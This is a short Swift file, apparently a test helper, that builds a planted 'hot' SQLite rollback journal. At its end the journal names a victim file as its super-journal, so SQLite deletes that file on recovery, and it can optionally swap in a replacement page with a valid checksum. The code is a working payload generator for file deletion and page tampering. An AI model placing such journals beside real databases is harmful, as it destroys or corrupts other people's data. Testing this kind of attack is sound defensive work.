/// A journal that an attacker could plant next to a database: hot, with the name of a super-journal at its end.
///
/// SQLite deletes the file with that name.
package enum PlantedJournal {
    /// - Parameters:
    ///   - victim: the file that it names.
    ///   - page: the replacement for the second page; `nil` for none.
    package static func bytes(naming victim: String, page: [UInt8]? = nil) -> [UInt8] {
        // Number of pages, nonce, number of pages in the database, sector size and page size.
        var journal = magic + word(page == nil ? 0 : 1) + word(7) + word(5) + word(512) + word(4_096)
        journal += [UInt8](repeating: 0, count: 512 - journal.count)
        if let page {
            let sum = stride(from: 4_096 - 200, to: 0, by: -200).reduce(7) { $0 + Int(page[$1]) }
            journal += word(2) + page + word(sum)
        }
        let name = Array(victim.utf8)
        journal += word(0x4000_0000 / 4_096 + 1) + name + word(name.count)
        return journal + word(name.reduce(0) { $0 + Int(Int8(bitPattern: $1)) }) + magic
    }

    private static let magic: [UInt8] = [0xd9, 0xd5, 0x05, 0xf9, 0x20, 0xa1, 0x63, 0xd7]

    private static func word(_ number: Int) -> [UInt8] {
        (0..<4).reversed().map { UInt8(truncatingIfNeeded: number >> ($0 * 8)) }
    }
}
